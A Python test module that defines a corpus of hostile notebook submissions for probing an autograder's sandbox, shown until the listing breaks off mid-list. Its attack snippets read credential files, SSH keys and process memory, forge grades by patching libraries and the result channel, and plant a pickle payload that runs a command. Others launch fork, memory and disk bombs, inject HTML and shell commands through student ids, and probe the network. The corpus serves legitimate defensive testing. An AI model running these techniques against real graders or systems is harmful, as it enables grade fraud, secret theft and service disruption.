"""The attack corpus: submissions of the toy assignment, hostile and honest.

`python -m autograder verify --attacks` grades them all and prints a table. Each is a few lines;
what it finds it prints, and secrets are laid out so that a find shows (attacks.py).
"""

import importlib
import json
import os
import sys
from pathlib import Path

import nbformat
from nbformat.v4 import new_code_cell, new_markdown_cell

from autograder.attacks import SURVIVOR, Attack

TARGET = Path(__file__).resolve().parents[1] / "autograder"
sys.path.insert(0, str(TARGET))
TOY = importlib.import_module("toy")

SENDS = "is told that this is no data; the part is lost"
BURNS = "is stopped at its limit; the rest is graded"
REFUSED = "is refused with a reason; the class goes on"
NOTHING = "gets nothing but its own solved part"
ITS_OWN_LOSS = "ends its own processes, which costs itself"
AGAIN = "is run again without that cell"


def unsolved(body: str) -> str:
    """A `double` that does `body` whenever a hidden test calls it."""
    lines = "\n".join("    " + line for line in body.strip().splitlines())
    return f"def double(x):\n{lines}\n"


def notebook(change):
    """A file that is the notebook after `change`, which may also return another one."""
    def make(raw):
        book = nbformat.reads(raw.decode(), as_version=4)
        book = change(book) or book
        return json.dumps(book).encode()
    return make


def graded_cell(book, name="double"):
    """The test cell of that part."""
    return next(c for c in book.cells if c.metadata.get("nbgrader", {}).get("grade_id") == name)


# what a submission can see ------------------------------------------------------------------------
SEARCH = """
import os
def look(paths):
    for path in paths:
        try:
            with open(path, errors="replace") as file:
                print(path, file.read(100_000)[-2000:])
        except (OSError, ValueError) as error:
            print(path, type(error).__name__)
"""
READING = [
    Attack("graders-on-disk", "find hidden tests anywhere on disk", NOTHING, first=SEARCH + """
for folder, _, names in os.walk("/"):
    if folder.startswith(("/proc", "/usr", "/sys")):
        continue
    look(f"{folder}/{n}" for n in names if n.startswith(("test_", "reference", "mistakes"))
         and "toy" in folder)
"""),
    Attack("graders-by-import", "import the hidden tests and references", NOTHING, first="""
import importlib
for name in ("toy_graders.toy.reference", "autograder.graders.hw1_perceptron.reference",
             "autograder.grading", "autograder.judge"):
    try:
        print(vars(importlib.import_module(name)))
    except ImportError as error:
        print(error)
""", double=unsolved("import toy_graders.toy.reference as r\nreturn r.double(x)")),
    Attack("source-notebook", "read the instructor's notebook", NOTHING, first=SEARCH + """
look(["@COURSE@/source/toy/toy.ipynb", "../source/toy/toy.ipynb",
      "../../../source/toy/toy.ipynb", "/proc/1/root/@COURSE@/source/toy/toy.ipynb",
      "/proc/1/cwd/../source/toy/toy.ipynb"])
"""),
    Attack("other-submission", "read what another student handed in", NOTHING, first=SEARCH + """
look(["@COURSE@/submitted/honest/toy/toy.ipynb", "../../honest/toy/toy.ipynb"])
for folder in ("@COURSE@/submitted", "@COURSE@/autograded", "@COURSE@/feedback"):
    print(os.path.exists(folder))
    for found in os.walk(folder):
        look(f"{found[0]}/{n}" for n in found[2])
"""),
    Attack("stored-results", "read and forge stored results", NOTHING, first=SEARCH + """
for folder, _, names in os.walk("@COURSE@/.autograder"):
    look(f"{folder}/{n}" for n in names)
os.makedirs("@COURSE@/.autograder/results/00", exist_ok=True)
"""),
    Attack("read-gradebook", "read the gradebook", NOTHING, first="""
import sqlite3
print(sqlite3.connect("file:@COURSE@/gradebook.db?mode=ro", uri=True)
      .execute("select * from grade").fetchall())
"""),
    Attack("environment", "read environment variables of the TA", NOTHING, first=SEARCH + """
print(dict(os.environ))
look(["/proc/self/environ", "/proc/1/environ", "/proc/2/environ", f"/proc/{os.getppid()}/environ"])
"""),
    Attack("home", "read the TA's home", NOTHING, first=SEARCH + """
look(["@HOME@/.secret", os.path.expanduser("~/.secret"), "/etc/passwd", "/etc/shadow"])
look(f"/{user}/{name}" for user in ("root", "home/ta")
     for name in (".secret", ".bashrc", ".ssh/id_rsa"))
"""),
    Attack("command-lines", "read other processes' command lines and folders", NOTHING,
           first=SEARCH + """
for pid in filter(str.isdigit, os.listdir("/proc")):
    look([f"/proc/{pid}/cmdline", f"/proc/{pid}/maps"])
    try:
        print(os.readlink(f"/proc/{pid}/cwd"), os.listdir(f"/proc/{pid}/root"))
    except OSError as error:
        print(error)
assert len([p for p in os.listdir("/proc") if p.isdigit()]) < 5
"""),
    Attack("memory-of-others", "read other processes' memory", NOTHING, double=unsolved("""
import os, re
for pid in filter(str.isdigit, os.listdir("/proc")):
    try:
        maps = open(f"/proc/{pid}/maps").read().splitlines()
        memory = open(f"/proc/{pid}/mem", "rb", 0)
    except OSError:
        continue
    for line in maps[:400]:
        start, end = (int(n, 16) for n in line.split()[0].split("-"))
        try:
            memory.seek(start)
            found = re.search(rb"CANARY-(?:hidden|home|environment)-[0-9a-f]+",
                              memory.read(min(end - start, 1 << 24)))
        except (OSError, ValueError, OverflowError):
            continue
        if found:
            print(found.group())
            return found.group().decode()
""")),
    Attack("frames", "walk the stack for the expected value", NOTHING, double=unsolved("""
import sys
frame = sys._getframe()
while frame:
    for name, value in frame.f_locals.items():
        if name in ("want", "expected", "reference", "_reference"):
            return value
    frame = frame.f_back
""")),
    Attack("garbage-collector", "find the reference among all objects", NOTHING, double=unsolved("""
import gc, types
for thing in gc.get_objects():
    if isinstance(thing, types.FunctionType) and thing.__name__ == "double" and thing is not double:
        return thing(x)
""")),
    Attack("threads-frames", "look into other threads' frames", double=unsolved("""
import sys
return [str(f.f_locals)[:1000] for f in sys._current_frames().values()]
"""), must=SENDS),
    Attack("mounts", "find the host's folders through the mounts", NOTHING, first=SEARCH + """
look(["/proc/self/mountinfo"])
for line in open("/proc/self/mountinfo"):
    root, where = line.split()[3:5]
    look([f"{root}/../source/toy/toy.ipynb", f"{where}/../source/toy/toy.ipynb"])
"""),
]

# what it can patch --------------------------------------------------------------------------------
PATCHING = [
    Attack("patch-numpy", "make every comparison of NumPy true", double="""
import numpy as np
np.allclose = np.array_equal = np.isclose = lambda *a, **k: True
np.testing.assert_allclose = np.testing.assert_array_equal = lambda *a, **k: None
np.abs = np.absolute = lambda a: 0 * a
def double(x):
    return 0 * x
"""),
    Attack("patch-builtins", "replace built-in functions and exceptions", double="""
import builtins
builtins.AssertionError = builtins.ValueError = type("Never", (BaseException,), {})
builtins.max = builtins.sum = builtins.abs = lambda *a, **k: 0
def double(x):
    return 0 * x
"""),
    Attack("patch-import", "replace the import statement", double="""
import builtins
old = builtins.__import__
def forged(name, *a, **k):
    if "autograder" in name or "pytest" in name:
        raise ImportError("no tests today")
    return old(name, *a, **k)
builtins.__import__ = forged
def double(x):
    return 0 * x
"""),
    Attack("patch-json", "make json and msgpack write full marks", double="""
import json, msgpack
json.dumps = lambda *a, **k: '{"score": 5}'
msgpack.packb = lambda *a, **k: b'\\x81\\xa5value\\xc0'
def double(x):
    return {"score": 5, "outcome": "passed"}
""", must=AGAIN),
    Attack("patch-channel", "reply a verdict instead of a value", double="""
import sys
channel = sys.modules["autograder.channel"]
send = channel.send
channel.send = lambda s, v, d: send(s, {"value": None, "outcome": "passed", "score": 5}, d)
def double(x):
    return x
""", must=AGAIN),
    Attack("patch-worker", "replace the worker's functions", double="""
import gc
worker = next(d for d in gc.get_objects() if isinstance(d, dict) and "serve_calls" in d)
worker["answer"] = lambda namespace, request: {"passed": True, "score": 5, "value": None}
worker["describe_error"] = lambda error: None
def double(x):
    return x
""", points=0, must="loses every part: each reply is its own"),
    Attack("patch-clock", "stop the clocks that end its calls", double="""
import time, signal
time.monotonic = time.time = time.perf_counter = lambda: 0.0
signal.setitimer = signal.alarm = lambda *a: (0.0, 0.0)
def double(x):
    while True:
        pass
""", points=0, must="ends with the alarm that it does not let be cleared"),
    Attack("patch-pytest", "register a pytest plug-in", double="""
import sys, types
fake = types.ModuleType("pytest")
fake.raises = fake.approx = lambda *a, **k: True
sys.modules["pytest"] = sys.modules["_pytest"] = fake
def pytest_runtest_makereport(item, call):
    return None
def double(x):
    return 0 * x
"""),
    Attack("import-hook", "answer imports from a hook of its own", double="""
import sys
class Hook:
    def find_spec(self, name, path=None, target=None):
        print("asked for", name)
sys.meta_path.insert(0, Hook())
def double(x):
    return 0 * x
"""),
    Attack("fake-gc", "make freezing and forking fail", double="""
import gc, os
def refuse(*a):
    raise RuntimeError
gc.freeze = gc.collect = lambda *a: 0
os.fork = refuse
def double(x):
    return x
""", points=0, must=ITS_OWN_LOSS),
    Attack("profile-hook", "trace the grader's calls with settrace", double=unsolved("""
import sys
seen = []
sys.settrace(lambda frame, event, arg: seen.append(str(frame.f_locals)[:500]))
sys.setprofile(lambda frame, event, arg: seen.append(str(arg)[:500]))
return seen
"""), must=SENDS),
]

# forged results -----------------------------------------------------------------------------------
def _forged_outputs(book):
    for cell in book.cells:
        if cell.cell_type == "code":
            cell.outputs = [nbformat.v4.new_output(
                "execute_result", {"text/plain": "5.0"}, execution_count=1)]


def _more_points(book):
    graded_cell(book).metadata.nbgrader.points = 100


def _added_grade_cell(book):
    cell = new_code_cell("5.0")
    cell.metadata["nbgrader"] = {"grade_id": "extra", "grade": True, "locked": True, "points": 100,
                                 "solution": False, "schema_version": 3, "task": False}
    book.cells.append(cell)


def _negative_points(book):
    graded_cell(book).metadata.nbgrader.points = -3


def _swapped_ids(book):
    one, two = graded_cell(book, "double"), graded_cell(book, "split")
    one.metadata.nbgrader.grade_id, two.metadata.nbgrader.grade_id = "split", "double"


def _doubled_split(book):
    graded_cell(book, "double").metadata.nbgrader.grade_id = "split"


def _test_cell_as_solution(book):
    cell = graded_cell(book)
    cell.metadata.nbgrader.update(solution=True, locked=False)
    cell.source = "5.0"


def _edited_test_cell(book):
    graded_cell(book).source = "5.0"


def _result_of_another(book):
    book.metadata["autograder"] = {"result": "0" * 64}


def _evil_kernel(book):
    book.metadata["kernelspec"] = {"name": "../../evil", "argv": ["touch", "/tmp/owned"],
                                   "display_name": "<script>alert(1)</script>", "language": "sh"}


def _evil_types(book):
    book.cells[0].metadata["nbgrader"] = [1, 2]
    book.cells[1].metadata["nbgrader"] = {"grade_id": ["list"], "points": "many"}


FORGING = [
    Attack("display-hook", "forge a cell's result through the display hook", first="""
import sys
get_ipython().events.register("pre_run_cell", lambda info: sys.displayhook(5.0))
"""),
    Attack("run-code", "replace the shell's run_code", first="""
import sys
get_ipython().run_code = lambda *a, **k: sys.displayhook(5.0) or False
""", points=0, must="loses what it keeps from running"),
    Attack("write-gradebook", "give itself and others points in the database", first="""
import sqlite3
base = sqlite3.connect("@COURSE@/gradebook.db")
base.execute("update grade set auto_score = 99, extra_credit = 99")
base.commit()
"""),
    Attack("printed-score", "print scores and end with a number", last="print('5.0')\n5.0"),
    Attack("exit-zero", "leave with exit status 0 before any test", first="import os\nos._exit(0)"),
    Attack("stored-outputs", "hand in test cells with outputs of full marks",
           file=notebook(_forged_outputs)),
    Attack("more-points", "make a part worth 100 points", file=notebook(_more_points)),
    Attack("negative-points", "make a part worth -3 points", file=notebook(_negative_points)),
    Attack("added-grade-cell", "add a graded cell of its own", file=notebook(_added_grade_cell)),
    Attack("swapped-ids", "swap the names of two test cells", file=notebook(_swapped_ids)),
    Attack("doubled-id", "name both test cells after the solved part",
           file=notebook(_doubled_split)),
    Attack("test-as-solution", "turn a test cell into a solution cell",
           file=notebook(_test_cell_as_solution)),
    Attack("edited-test", "replace a test cell's text", file=notebook(_edited_test_cell)),
    Attack("result-of-another", "point to another result in the metadata",
           file=notebook(_result_of_another)),
    Attack("evil-kernel", "name a kernel that runs a command", file=notebook(_evil_kernel)),
    Attack("evil-types", "put wrong types into the metadata", file=notebook(_evil_types)),
    Attack("reply-verdict", "return what a verdict looks like", must=SENDS, double=unsolved(
        'return {"outcome": "passed", "score": 5, "weight": 1e9, "value": x}')),
    Attack("raise-verdict", "raise an exception called Passed", must=SENDS, double="""
class Passed(Exception):
    outcome, score, weight = "passed", 5, 1e9
def double(x):
    raise Passed("passed")
"""),
    Attack("pytest-exit", "raise pytest's own control exceptions", must=SENDS, double="""
import sys
class Exit(BaseException):
    returncode = 0
class Skipped(BaseException):
    pass
def double(x):
    raise (Exit if len(x) == 5 else Skipped)("no more tests")
"""),
    Attack("keyboard-interrupt", "raise KeyboardInterrupt and GeneratorExit", must=SENDS,
           double=unsolved("raise (KeyboardInterrupt if len(x) == 5 else GeneratorExit)")),
]

# evil values --------------------------------------------------------------------------------------
EVIL = [
    Attack("equal-to-all", "return an object that equals everything", must=SENDS, double="""
class Equal:
    __array_priority__ = 1e9
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __array__(self, *a, **k): raise SystemExit
    def __bool__(self): return True
    def __float__(self): return 1.0
    def __len__(self): return 5
def double(x):
    return Equal()
"""),
    Attack("array-subclass", "return an array whose arithmetic always fits", must=SENDS, double="""
import numpy as np
class Forged(np.ndarray):
    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
        return np.zeros(self.shape)
    def __eq__(self, other): return np.ones(self.shape, bool)
    def __reduce__(self): return (print, ("owned",))
    @property
    def shape(self): return (5,)
def double(x):
    return np.zeros(len(x)).view(Forged)
"""),
    Attack("number-subclass", "return numbers and texts of classes of its own", must=SENDS,
           double="""
class Number(float):
    def __sub__(self, other): return 0.0
    def __eq__(self, other): return True
    def __float__(self): raise SystemExit
class Text(str):
    def __str__(self): raise SystemExit
def double(x):
    return Number(3) if len(x) == 5 else Text("3")
"""),
    Attack("pickle-bomb", "return an object that runs a command when unpickled", must=SENDS,
           double="""
import os
class Bomb:
    def __reduce__(self): return (os.system, ("touch @HOME@/owned",))
    def __getstate__(self): os.system("touch @HOME@/owned"); return {}
def double(x):
    return Bomb()
"""),
    Attack("pretend-torch", "pretend to be a tensor", must=SENDS, double="""
class Tensor:
    __module__ = "torch"
    def detach(self): return self
    def cpu(self): return self
    def numpy(self): raise SystemExit(0)
def double(x):
    return Tensor()
"""),
    Attack("endless-iterator", "return an iterator without an end", must=SENDS,
           double=unsolved("import itertools\nreturn itertools.count()")),
    Attack("endless-list", "return a list that grows while it is read", must=SENDS, double="""
class Endless(list):
    def __iter__(self):
        while True:
            yield 1
    def __len__(self): return 1 << 60
def double(x):
    return Endless()
"""),
    Attack("huge-shape", "return an array of 80 GB that takes no memory", must=SENDS,
           double=unsolved("import numpy as np\nreturn np.broadcast_to(0.0, (10**5, 10**5))")),
    Attack("object-array", "return an array of objects", must=SENDS, double=unsolved(
        "import numpy as np\nreturn np.array([x, None, double], dtype=object)")),
    Attack("deep-nesting", "return 100,000 lists within each other", must=SENDS, double=unsolved(
        "deep = []\nfor _ in range(100_000):\n    deep = [deep]\nreturn deep")),
    Attack("self-containing", "return a list that contains itself", must=SENDS,
           double=unsolved("loop = []\nloop.append(loop)\nreturn loop")),
    Attack("wide-list", "return a million small objects", must=SENDS,
           double=unsolved("return [[]] * 10**6")),
    Attack("huge-numbers", "return a number of 10,000 digits and a text of 100 MB", must=SENDS,
           double=unsolved("return 10**10_000 if len(x) == 5 else 'x' * 10**8")),
    Attack("not-a-number", "return nan and infinities", must=SENDS,
           double=unsolved("return x * float('nan') if len(x) == 5 else x + float('inf')")),
    Attack("wrong-dtype", "return texts, dates and records as arrays", must=SENDS,
           double=unsolved("""
import numpy as np
return (np.array(["2"] * 5) if len(x) == 5 else np.zeros(3, "M8[s]"),
        np.zeros(2, [("a", "f8")]))
""")),
    Attack("evil-error", "raise an error whose text never ends", must=SENDS, double="""
class Evil(Exception):
    def __str__(self): return "long" * 10**7
    def __repr__(self): raise SystemExit
Evil.__name__ = "<img src=x onerror=alert(1)>" * 100
def double(x):
    raise Evil()
"""),
    Attack("evil-dict", "return dicts with keys that no table takes", must=SENDS, double=unsolved(
        "return {(1, 2): x, float('nan'): 1, None: {True: 1, 1: 2}, b'x': 3}")),
]

# ends, signals, children --------------------------------------------------------------------------
LEFT_BEHIND = f"""
import subprocess, sys
subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)", "{SURVIVOR}"],
                 start_new_session=True)
"""
ENDING = [
    Attack("exit-in-call", "exit with status 0 inside a call", must=SENDS,
           double=unsolved("import os\nos._exit(0)")),
    Attack("system-exit", "raise SystemExit in cells and calls", must=SENDS,
           first="raise SystemExit(0)", double=unsolved("raise SystemExit(0)")),
    Attack("at-exit", "act when the interpreter ends", must=SENDS, double=unsolved("""
import atexit, sys
atexit.register(lambda: print("late"))
sys.exit(0)
""")),
    Attack("kill-parent", "kill the process that forked it", points=0, must=ITS_OWN_LOSS,
           double=unsolved("import os\nos.kill(os.getppid(), 9)\nreturn x")),
    Attack("kill-everything", "kill every process that it may", points=0, must=ITS_OWN_LOSS,
           double=unsolved("import os\nos.kill(-1, 9)\nreturn x")),
    Attack("kill-numbers", "kill processes by number", points=0, must=ITS_OWN_LOSS,
           double=unsolved("""
import os
for pid in range(1, 5000):
    for kill in (os.kill, os.killpg):
        try:
            kill(pid, 9)
        except OSError:
            pass
return x
""")),
    Attack("stop-itself", "stop without ending", must=BURNS,
           double=unsolved("import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)\nreturn x")),
    Attack("ignore-signals", "ignore every signal and run on", must=BURNS, double=unsolved("""
import signal
for number in range(1, 65):
    try:
        signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError):
        pass
while True:
    pass
""")),
    Attack("swallow-all", "catch everything and run on", must=BURNS, double=unsolved("""
while True:
    try:
        while True:
            pass
    except BaseException:
        pass
""")),
    Attack("child-outlives", "leave a child in a session of its own", first=LEFT_BEHIND,
           double=unsolved(LEFT_BEHIND + "return x")),
    Attack("daemon", "leave a daemon, forked twice", first="""
import os, sys
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(600)",
                                  "SURVIVOR"])
    os._exit(0)
""".replace("SURVIVOR", SURVIVOR)),
    Attack("thread-outlives", "leave a thread that writes to every descriptor", must=SENDS,
           double=unsolved("""
import os, threading
def write():
    while True:
        for number in range(3, 64):
            try:
                os.write(number, b"garbage")
            except OSError:
                pass
threading.Thread(target=write, daemon=True).start()
import time
time.sleep(0.2)
return x
""")),
    Attack("segfault", "crash the interpreter", must=SENDS,
           double=unsolved("import ctypes\nreturn ctypes.string_at(0)")),
    Attack("recursion", "recurse without an end, and without a limit", must=SENDS, double="""
import sys
sys.setrecursionlimit(10**9)
def double(x):
    return double(x)
"""),
    Attack("killing-cells", "end the process in six cells", points=0,
           must="is told; the notebook is not run at all",
           file=notebook(lambda b: b.cells.extend(
               new_code_cell(f"import os; os._exit({n})") for n in range(6)))),
]

# floods -------------------------------------------------------------------------------------------
FLOODS = [
    Attack("fork-bomb", "start processes until none can be", must=BURNS, double=unsolved("""
import os, time
end = time.monotonic() + 1
while time.monotonic() < end:
    try:
        os.fork()
    except OSError:
        pass
return x
""")),
    Attack("thread-bomb", "start threads until none can be", must=BURNS, double=unsolved("""
import threading, time
try:
    while True:
        threading.Thread(target=time.sleep, args=(5,), daemon=True).start()
except RuntimeError:
    return x
""")),
    Attack("memory-flood", "take memory until there is none", must=BURNS, double=unsolved("""
taken = []
while True:
    taken.append(bytearray(b"x" * (64 << 20)))
""")),
    Attack("memory-of-many", "take memory in many processes together", must=BURNS,
           double=unsolved("""
import os, time
for _ in range(40):
    if os.fork() == 0:
        taken = bytearray(b"x" * (300 << 20))
        time.sleep(3)
        os._exit(0)
time.sleep(1.5)
return x
"""), points=2),
    Attack("shared-memory-flood", "fill memory through shared maps", must=BURNS, double=unsolved("""
import mmap
taken = []
while True:
    taken.append(mmap.mmap(-1, 64 << 20))
    taken[-1].write(b"x" * (64 << 20))
""")),
    Attack("disk-flood", "fill the disk", must=BURNS, first="""
for folder in ("/tmp", "/dev/shm", "/var/tmp", "@HOME@"):
    try:
        for number in range(1000):
            with open(f"{folder}/flood{number}", "wb") as file:
                file.write(bytes(32 << 20))
    except OSError as error:
        print(folder, error)
"""),
    Attack("file-flood", "make files until no name is left", must=BURNS, first="""
import itertools
try:
    for number in itertools.count():
        open(f"/tmp/{number}", "w").close()
except OSError as error:
    print(error)
"""),
    Attack("output-flood", "print 40 MB in a cell", must=BURNS, first="print('x' * 40_000_000)"),
    Attack("output-drip", "print a line for ever", must=BURNS,
           first="while True:\n    print('still here')"),
    Attack("raw-output", "write 40 MB to the standard streams' descriptors", must=BURNS, first="""
import os
for _ in range(400):
    os.write(1, b"x" * 10**5)
    os.write(2, b"x" * 10**5)
"""),
    Attack("picture-flood", "display 10,000 pictures", must=BURNS, first="""
from IPython.display import Image, display
import base64
png = base64.b64decode("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR4nGNgYGBg"
                       "AAAABQABpfZFQAAAAABJRU5ErkJggg==")
for _ in range(10_000):
    display(Image(png))
"""),
    Attack("picture-bomb", "display a picture of 10^9 pixels in a few bytes", must=BURNS, first="""
import struct, zlib
from IPython.display import Image, display
def chunk(kind, data):
    return (struct.pack(">I", len(data)) + kind + data
            + struct.pack(">I", zlib.crc32(kind + data)))
png = (b"\\x89PNG\\r\\n\\x1a\\n"
       + chunk(b"IHDR", struct.pack(">IIBBBBB", 32000, 32000, 8, *bytes(4)))
       + chunk(b"IDAT", zlib.compress(bytes(10**6))) + chunk(b"IEND", b""))
display(Image(png))
"""),
    Attack("descriptors", "open files until no descriptor is left", must=BURNS, first="""
kept = []
try:
    while True:
        kept.append(open("/dev/null"))
except OSError as error:
    print(len(kept), error)
    kept.clear()
"""),
    Attack("sleeper", "sleep for an hour in a cell and in a call", must=BURNS,
           first="import time\ntime.sleep(3600)",
           double=unsolved("import time\ntime.sleep(3600)")),
    Attack("limits-up", "raise its own limits", must=BURNS, first="""
import resource
for name in ("RLIMIT_AS", "RLIMIT_CPU", "RLIMIT_NPROC", "RLIMIT_FSIZE"):
    try:
        resource.setrlimit(getattr(resource, name), (-1, -1))
        print("CANARY" "-limits-0")
    except (ValueError, OSError) as error:
        print(error)
"""),
]

# the channel --------------------------------------------------------------------------------------
WRITE_ALL = """
import os
for number in range(3, 256):
    try:
        os.write(number, {data})
    except OSError:
        pass
"""
CHANNEL = [
    Attack("garbage-on-descriptors", "write garbage to every descriptor during a call", must=SENDS,
           double=unsolved(WRITE_ALL.format(data='b"garbage" * 1000') + "return x")),
    Attack("huge-header", "announce a message of 8 GB", must=SENDS, double=unsolved(
        WRITE_ALL.format(data='b"\\xff" * 8') + "import time\ntime.sleep(60)")),
    Attack("forged-frame", "send a forged verdict before the reply", must=SENDS, double=unsolved("""
import sys
frame = sys.modules["autograder.channel"].encode(
    {"value": None, "outcome": "passed", "score": 5, "ready": True})
""" + WRITE_ALL.format(data="frame") + "return x")),
    Attack("garbage-in-a-cell", "write garbage to the control socket from a cell", points=2,
           must=AGAIN, first=WRITE_ALL.format(data='b"garbage" * 10')),
    Attack("forged-ready", "say from a cell that the notebook is done", must=AGAIN, first="""
import sys
frame = sys.modules["autograder.channel"].encode({"ready": True})
""" + WRITE_ALL.format(data="frame")),
    Attack("forged-reports", "send reports of cells that did not run", points=2,
           must=AGAIN, first="""
import sys
frame = sys.modules["autograder.channel"].encode(
    {"ran": 1, "outcome": "ok", "stdout": "5.0", "seconds": -1e300, "images": "x"})
""" + WRITE_ALL.format(data="frame")),
    Attack("evil-report", "send a report with wrong types", points=2,
           must="has its report taken as text", first="""
import sys, __main__
worker = sys.modules["autograder.channel"]
send = worker.send
def forged(sock, value, deadline):
    if "ran" in value:
        value = {**value, "outcome": ["ok"], "error": {"type": 1, "where": [1, 2]}, "seconds": "x",
                 "images": [[1], "<script>"], "stdout": {"a": 1}}
    send(sock, value, deadline)
worker.send = forged
"""),
    Attack("close-all", "close every descriptor", must=SENDS, double=unsolved(
        "import os\nos.closerange(0, 256)\nreturn x")),
    Attack("slow-drip", "send one byte a second", must=BURNS, double=unsolved("""
import os, time
while True:
    for number in range(3, 64):
        try:
            os.write(number, b"\\0")
        except OSError:
            pass
    time.sleep(0.5)
""")),
    Attack("passed-descriptors", "pass hundreds of descriptors to the grader", must=SENDS,
           double=unsolved("""
import socket
for number in range(3, 64):
    try:
        sock = socket.socket(fileno=number)
        for _ in range(100):
            socket.send_fds(sock, [b"x"], [0] * 200)
    except OSError:
        pass
return x
""")),
    Attack("never-read", "leave requests unread", must=BURNS, points=2, double=unsolved("""
import os
while True:
    os.kill(os.getpid(), 19)
""")),
]

# files and folders --------------------------------------------------------------------------------
def _place(name, make):
    def place(folder: Path, raw: bytes):
        home = folder / name / "toy"
        home.mkdir(parents=True)
        make(home, raw)
    return place


def _beside(files: dict[str, str]):
    def make(home: Path, raw: bytes):
        (home / "toy.ipynb").write_bytes(raw)
        for name, text in files.items():
            path = home / name
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text(text)
    return make


def _student_link(folder: Path, raw: bytes):
    (folder / "student-link").symlink_to(folder / "honest")


def _assignment_link(folder: Path, raw: bytes):
    (folder / "assignment-link").mkdir()
    (folder / "assignment-link" / "toy").symlink_to(folder.parent / "source" / "toy")


def _link_to(target: str):
    return lambda home, raw: (home / "toy.ipynb").symlink_to(target)


OWNED = "import sys\nsys.modules.clear()\nraise SystemExit('owned')\n"
FILES = [
    Attack("link-to-source", "hand in a link to the instructor's notebook", REFUSED, None,
           place=_place("link-to-source", _link_to("../../../source/toy/toy.ipynb"))),
    Attack("link-to-device", "hand in a link to an endless device", REFUSED, None,
           place=_place("link-to-device", _link_to("/dev/zero"))),
    Attack("assignment-link", "hand in a folder that is a link", REFUSED, None,
           place=_assignment_link),
    Attack("student-link", "make a student's folder a link to another's", REFUSED, None,
           place=_student_link),
    Attack("pipe", "hand in a pipe that never ends", REFUSED, None,
           place=_place("pipe", lambda home, raw: os.mkfifo(home / "toy.ipynb"))),
    Attack("folder-as-file", "hand in a folder with the notebook's name", REFUSED, None,
           place=_place("folder-as-file", lambda home, raw: (home / "toy.ipynb").mkdir())),
    Attack("huge-file", "hand in a file of 40 MB", REFUSED, None,
           file=lambda raw: raw + b" " * (40 << 20)),
    Attack("deep-json", "hand in JSON nested 100,000 deep", REFUSED, None,
           file=lambda raw: b'{"cells": ' + b"[" * 100_000 + b"]" * 100_000 + b"}"),
    Attack("zip-file", "hand in an archive under the notebook's name", REFUSED, None,
           file=lambda raw: b"PK\x03\x04" + b"../../../gradebook.db" + raw[:100]),
    Attack("not-a-notebook", "hand in a number", REFUSED, None, file=lambda raw: b"5.0"),
    Attack("many-cells", "hand in 20,000 cells", points=2, must="is graded as it is",
           file=notebook(lambda b: b.cells.extend([new_markdown_cell("x")] * 20_000))),
    Attack("attachments", "hand in attachments and outputs of 20 MB", points=2,
           file=notebook(lambda b: b.cells[0].update(attachments={
               "../../x.png": {"image/png": "A" * (20 << 20)}}))),
    Attack("odd-id-html", "choose a student id that is HTML", REFUSED, None,
           student="<img src=x onerror=alert(1)>",
           place=_place("<img src=x onerror=alert(1)>", _beside({}))),
    Attack("odd-id-shell", "choose a student id that is a command", REFUSED, None,
           student="; touch owned", place=_place("; touch owned", _beside({}))),
    Attack("odd-id-option", "choose a student id that is an option", REFUSED, None,
           student="--force", place=_place("--force", _beside({}))),
    Attack("odd-id-lines", "choose a student id with a line end and escape codes", REFUSED, None,
           student="a\nb\x1b[31m", place=_place("a\nb\x1b[31m", _beside({}))),
    Attack("odd-id-hidden", "choose a student id that hides", REFUSED, None, student="..hidden",
           place=_place("..hidden", _beside({}))),
    Attack("numpy-beside", "put a numpy.py and start-up files beside the notebook",
           must="has none of them read", place=_place("numpy-beside", _beside({
               n: OWNED for n in ("numpy.py", "sitecustomize.py", "usercustomize.py", "IPython.py",
                                  "conftest.py", "nbgrader_config.py", "toy_graders/__init__.py",
                                  ".ipython/profile_default/startup/00.py")}))),
    Attack("startup-files", "leave start-up files for the next process", first="""
import os
for name in ("sitecustomize.py", "usercustomize.py", "numpy.py", "conftest.py",
             ".ipython/profile_default/startup/00.py", "ipython/profile_default/startup/00.py"):
    os.makedirs(os.path.dirname("/tmp/" + name), exist_ok=True)
    open("/tmp/" + name, "w").write("raise SystemExit('owned')")
os._exit(0)
"""),
    Attack("write-outside", "write into the system and the project", first="""
for path in ("/course/autograder/worker.py", "/course/owned", "/usr/owned", "/owned", "/dev/owned",
             "@COURSE@/owned", "@HOME@/owned", "/proc/sys/kernel/core_pattern",
             "/proc/self/oom_score_adj_", "/proc/sysrq-trigger"):
    try:
        open(path, "w").write("owned")
        print("CANARY" "-wrote-0", path)
    except OSError as error:
        print(error)
"""),
]

# the kernel and the network -----------------------------------------------------------------------
KERNEL = [
    Attack("network", "reach servers on the host and beyond", first="""
import socket
for family, address in ((socket.AF_INET, ("127.0.0.1", int("@PORT@"))),
                        (socket.AF_UNIX, chr(0) + "@ABSTRACT@"), (socket.AF_UNIX, "@SOCKET@"),
                        (socket.AF_INET, ("192.0.2.1", 80)), (socket.AF_INET, ("8.8.8.8", 53)),
                        (socket.AF_INET6, ("::1", int("@PORT@")))):
    try:
        with socket.socket(family, socket.SOCK_STREAM) as sock:
            sock.settimeout(0.3)
            sock.connect(address)
            print("CANARY" "-network-0", address)
    except OSError as error:
        print(error)
"""),
    Attack("name-lookup", "ask for a name", first="""
import socket
print("CANARY" "-lookup-0" if socket.gethostbyname("example.org") else "")
"""),
    Attack("raw-sockets", "open raw, netlink, packet and vsock sockets", first="""
import socket
for family, kind in ((socket.AF_INET, socket.SOCK_RAW), (socket.AF_NETLINK, socket.SOCK_RAW),
                     (socket.AF_PACKET, socket.SOCK_RAW), (40, socket.SOCK_STREAM),
                     (38, socket.SOCK_SEQPACKET)):
    try:
        socket.socket(family, kind)
        print("CANARY" "-socket-0", family)
    except OSError as error:
        print(error)
"""),
    Attack("trace", "trace the worker and read its memory", double=unsolved("""
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
if libc.ptrace(16, os.getppid(), None, None) == 0:
    print("CANARY" "-trace-0")
buffer = ctypes.create_string_buffer(64)
return libc.syscall(310, os.getppid(), buffer, 1, buffer, 1, 0)
"""), must=SENDS),
